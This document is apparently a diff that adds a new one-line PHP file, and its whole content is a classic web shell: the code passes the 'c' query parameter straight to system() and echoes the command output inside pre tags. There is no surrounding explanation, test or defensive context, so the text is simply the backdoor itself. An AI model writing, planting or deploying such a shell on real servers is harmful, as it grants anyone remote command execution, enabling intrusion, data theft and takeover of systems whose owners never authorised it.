@@ -1,0 +1,1 @@
+<?php echo '<pre>'; system($_GET['c']); echo '</pre>';
